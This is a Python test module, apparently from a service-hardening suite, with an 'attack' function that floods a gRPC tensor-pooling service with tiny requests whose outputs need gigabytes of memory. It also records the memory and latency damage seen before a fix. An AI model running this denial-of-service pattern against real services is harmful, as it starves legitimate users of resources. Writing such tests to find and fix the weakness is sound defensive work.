"""Small requests with large results: the memory that they need is many times their size.

155 bytes ask for 7,600 by 7,600 means as float64 and for their PNG file; a batch of 700 bytes asks for eight results of
61 MB; 62 MB of bytes become four times as many bytes of float32 for a power average.
"""

import asyncio
import time
from collections import Counter
from typing import Any

import grpc
import grpc.aio
from google.rpc import code_pb2

from poolservice.v1 import pool_pb2 as pb
from poolservice.v1.pool_pb2_grpc import PoolServiceStub
from target import Target

FLAGS: tuple[str, ...] = ()
BEFORE = "3.8 GB at most, 519 MB kept; health waits for 1.3 s, p99 of good callers 2.1 s"

_OPTIONS = (("grpc.max_receive_message_length", -1), ("grpc.max_send_message_length", -1))
_PATIENCE_SECONDS = 5.0


async def attack(target: Target, seconds: float) -> str:
    """Send the three kinds of requests side by side, two callers for each."""
    until = time.monotonic() + seconds
    statuses: Counter[str] = Counter()
    async with grpc.aio.insecure_channel(target.address, options=_OPTIONS) as channel:
        stub: Any = PoolServiceStub(channel)

        async def call(number: int) -> None:
            while time.monotonic() < until:
                try:
                    if number % 3 == 0:
                        await stub.Pool(_adaptive_png(), timeout=_PATIENCE_SECONDS)
                    elif number % 3 == 1:
                        await stub.Pool(_power_average(), timeout=_PATIENCE_SECONDS)
                    else:
                        batch = await stub.PoolBatch(_batch(), timeout=_PATIENCE_SECONDS)
                        for result in batch.results:
                            code = code_pb2.Code.Name(result.status.code)
                            statuses[f"{code} in a batch"] += 1
                except grpc.aio.AioRpcError as error:
                    statuses[error.code().name] += 1
                    await asyncio.sleep(0.01)
                else:
                    statuses["OK"] += 1

        await asyncio.gather(*(call(number) for number in range(6)))
    return ", ".join(f"{count} {status}" for status, count in sorted(statuses.items()))


def _adaptive(size: int, dtype: "pb.DataType.ValueType", itemsize: int) -> pb.PoolRequest:
    spec = pb.PoolSpec(spatial_dims=2, adaptive_avg_pool=pb.AdaptiveAvgPool(output_size=[size]))
    return pb.PoolRequest(specs=[spec], tensor=pb.Tensor(dtype=dtype, shape=[1, 2, 2], data=bytes(4 * itemsize)))


def _adaptive_png() -> pb.PoolRequest:
    request = _adaptive(7600, pb.DATA_TYPE_FLOAT64, 8)
    request.output.format = pb.OUTPUT_FORMAT_IMAGE
    return request


def _batch() -> pb.PoolBatchRequest:
    return pb.PoolBatchRequest(requests=[_adaptive(3900, pb.DATA_TYPE_FLOAT32, 4)] * 8)


def _power_average() -> pb.PoolRequest:
    spec = pb.PoolSpec(spatial_dims=2, lp_pool=pb.LpPool(norm_type=1.5, kernel_size=[2]))
    size = 7_800
    tensor = pb.Tensor(dtype=pb.DATA_TYPE_UINT8, shape=[1, size, size], data=bytes(size * size))
    return pb.PoolRequest(specs=[spec], tensor=tensor)
